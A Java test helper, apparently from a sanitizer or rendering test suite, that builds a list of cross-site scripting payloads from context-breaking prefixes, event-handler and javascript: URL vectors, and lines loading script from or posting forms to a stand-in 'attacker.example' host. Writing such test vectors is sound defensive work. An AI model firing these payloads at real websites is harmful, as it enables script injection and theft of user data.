package org.hulian.review;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/** Texts that want to be markup or script: as people know them, and out of every context. */
final class Payloads {
  /** What ends the place that a text stands in. */
  private static final List<String> WAYS_OUT =
      List.of(
          "\"",
          "'",
          "\">",
          "'>",
          "</bdi>",
          "</title></head>",
          "</textarea>",
          "</script>",
          "-->",
          "]]>");

  private static final List<String> THEN =
      List.of(
          "<script>window.pwned=1</script>",
          "<img src=x onerror=window.pwned=1>",
          "<svg/onload=window.pwned=1>",
          " onfocus=window.pwned=1 autofocus tabindex=0 ",
          " style=position:fixed;inset:0 hx-get=/accounts hx-trigger=load ",
          "<a href=javascript:window.pwned=1>x</a><form action=//attacker.example>");

  private static final List<String> MORE =
      List.of(
          "<script src=//attacker.example/x.js></script>",
          "<script type=module>window.pwned=1</script>",
          "<a href=\"jav\tascript:window.pwned=1\">x</a>",
          "<a href=\"&#106;avascript:window.pwned=1\">x</a>",
          "<a href=\"//attacker.example\" target=_blank>x</a>",
          "<button formaction=javascript:window.pwned=1>x",
          "<input type=image src=x onerror=window.pwned=1>",
          "<isindex action=javascript:window.pwned=1>",
          "<svg><a xlink:href=javascript:window.pwned=1><text>x</text></a></svg>",
          "<svg><use href=\"data:image/svg+xml,x\"/></svg>",
          "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
          "<math href=javascript:window.pwned=1>x</math>",
          "<dialog open onclose=window.pwned=1>",
          "<p popover id=p onbeforetoggle=window.pwned=1>",
          "<x contenteditable onblur=window.pwned=1>",
          "<slot onslotchange=window.pwned=1>",
          "<plaintext>",
          "<xmp><script>window.pwned=1</script></xmp>",
          "<frameset onload=window.pwned=1>",
          "<keygen autofocus onfocus=window.pwned=1>");

  private Payloads() {}

  /** All of them, each once; none begins or ends with a blank. */
  static List<String> all() {
    Set<String> all = new LinkedHashSet<>(HostileTextTest.PAYLOADS);
    all.addAll(MORE);
    for (String out : WAYS_OUT) {
      for (String then : THEN) {
        all.add((out + then).strip());
      }
    }
    return new ArrayList<>(all);
  }
}
